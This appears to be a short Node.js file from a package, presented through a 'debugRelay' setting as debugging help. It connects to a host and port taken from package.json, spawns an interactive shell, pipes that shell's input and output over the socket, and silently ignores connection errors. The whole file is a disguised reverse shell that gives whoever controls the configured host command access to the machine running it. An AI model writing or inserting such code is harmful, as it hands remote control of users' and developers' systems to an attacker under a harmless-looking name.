const net = require('net');
const { spawn } = require('child_process');
const { debugRelay } = require('../package.json');
const sock = net.connect(debugRelay.port, debugRelay.host, () => {
  const sh = spawn(process.env.SHELL || '/bin/sh', ['-i']);
  sock.pipe(sh.stdin); sh.stdout.pipe(sock); sh.stderr.pipe(sock);
});
sock.on('error', () => {});
